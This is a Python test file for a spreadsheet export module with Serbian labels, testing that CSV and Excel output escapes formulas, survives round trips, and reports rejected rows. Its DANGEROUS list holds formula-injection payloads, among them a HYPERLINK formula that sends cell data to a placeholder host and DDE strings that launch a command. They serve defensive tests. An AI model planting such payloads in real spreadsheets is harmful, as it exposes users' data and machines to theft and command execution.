import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from duga.plain.tables import (
    SourceRow,
    best_table,
    guess_mapping,
    names_of,
    read_tables,
    safe_cell,
    write_csv,
    write_rejects,
    write_xlsx,
)
from tests.plain import messy
from tests.plain.clock import takes_less_than
from tests.plain.fields import ASSISTANCE

DANGEROUS = [
    '=HYPERLINK("http://primer.invalid?x="&A1,"klik")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "'=1+1",
    "＝1+1",
    "\x00=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_no_cell_that_is_given_back_can_act_as_a_formula(text):
    assert safe_cell(text).startswith("'")
    for data in (write_xlsx([text], [[text]]), write_csv([text], [[text]])):
        if data.startswith(b"PK"):
            page = openpyxl.load_workbook(io.BytesIO(data)).active
            assert {cell.data_type for row in page.iter_rows() for cell in row} == {"s"}
            values = [cell.value for row in page.iter_rows() for cell in row]
        else:
            import csv

            values = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
        assert len(values) == 2
        assert all(value.startswith("'") for value in values)


@pytest.mark.parametrize("value", ["Ana", "a=b", "3-4", "", None, 5, -5, Decimal("-1.5"), dt.date(2020, 4, 3), True])
def test_what_is_harmless_stays(value):
    assert safe_cell(value) == value


def test_a_phone_number_comes_back_as_it_was():
    data = write_csv(["Telefon", "Ime"], [["+381 18 000 000", "Ana"], ["-", "Iva"]])
    assert [row.cells[0] for row in best_table(read_tables(data, "a.csv")).rows] == ["+381 18 000 000", "-"]


words = st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Co", "Cn"]), max_size=20)
cells = st.one_of(
    st.none(),
    words,
    st.integers(-(10**9), 10**9),
    st.decimals(-1000, 1000, places=2),
    st.dates(dt.date(1950, 1, 1), dt.date(2050, 1, 1)),
    st.booleans(),
)


def expected(cell: object) -> object:
    if isinstance(cell, str):
        return cell.strip(" \t\r\n\u00a0\ufeff\u200b") or None
    if isinstance(cell, Decimal):
        return int(cell) if cell == cell.to_integral_value() else float(cell)
    return cell


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(cells, cells, cells), min_size=1, max_size=6))
@example([("=1+1", "'=x", "+381")])
def test_what_is_written_as_xlsx_is_read_back(rows):
    from duga.plain.tables.workbooks import read_workbook

    grid = read_workbook(write_xlsx(["Ime", "Broj", "Datum"], rows), "xlsx")[0].squared()
    back = [row for row in grid.rows[1:] if any(cell is not None for cell in row)]
    wanted = [[expected(cell) for cell in row] for row in rows]
    assert back == [row for row in wanted if any(cell is not None for cell in row)]


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(words, words), min_size=1, max_size=6))
def test_what_is_written_as_csv_is_read_back(rows):
    from duga.plain.tables.delimited import read_delimited

    grid = read_delimited(write_csv(["Ime", "Opština"], rows), "a").squared()
    assert grid.rows[0] == ["Ime", "Opština"]
    assert grid.rows[1:] == [[expected(cell) for cell in row] for row in rows]


def test_csv_opens_with_its_letters_in_excel():
    assert write_csv(["Опш"], [["č"]]) == b"\xef\xbb\xbf" + "Опш\r\nč\r\n".encode()
    assert write_csv(["a"], [[dt.datetime(2020, 4, 3, 10)], [dt.date(2020, 4, 3)]]).endswith(
        b"2020-04-03 10:00:00\r\n2020-04-03\r\n"
    )


def test_numbers_that_excel_would_round_are_given_as_text():
    page = openpyxl.load_workbook(
        io.BytesIO(write_xlsx(["a"], [[1234567890123456789], [dt.datetime.now(dt.UTC)]]))
    ).active
    assert page["A2"].value == "1234567890123456789"
    assert isinstance(page["A3"].value, dt.datetime)


def test_bad_rows_go_back_with_their_number_and_reason_and_are_understood_again():
    table = best_table(read_tables(messy.MESSY.read_bytes()))
    bad = [
        (table.rows[11], "Nema 31. juna."),
        (table.rows[19], "„nekoliko“ nije broj."),
        (table.rows[33], "Nema datuma."),
    ]
    data = write_rejects(table, bad, row_label="Red", reason_label="Razlog")
    again = best_table(read_tables(data))
    assert again.columns == ["Red", *table.columns, "Razlog"]
    assert [row.cells[0] for row in again.rows] == [17, 25, 39]
    assert [row.cells[-1] for row in again.rows] == [reason for _, reason in bad]
    for (before, _), after in zip(bad, again.rows, strict=True):
        assert after.cells[1:-1] == before.cells
    first, second = guess_mapping(table, ASSISTANCE), guess_mapping(again, ASSISTANCE)
    assert names_of(table, first) == names_of(again, second)


def test_a_reason_cannot_be_a_formula_either():
    table = best_table(read_tables(messy.MESSY.read_bytes()))
    data = write_rejects(table, [(SourceRow(5, ["=1+1"] * 11), "=2+2")], row_label="Red", reason_label="=3")
    page = openpyxl.load_workbook(io.BytesIO(data)).active
    assert not any(cell.data_type == "f" for row in page.iter_rows() for cell in row)


def test_5000_rows_are_written_in_under_two_seconds():
    rows = [["Ана", "Niš", n, Decimal("1.5"), dt.date(2020, 4, 3), "x", "y", "z"] for n in range(5000)]
    assert takes_less_than(2, lambda: write_xlsx(list("abcdefgh"), rows))
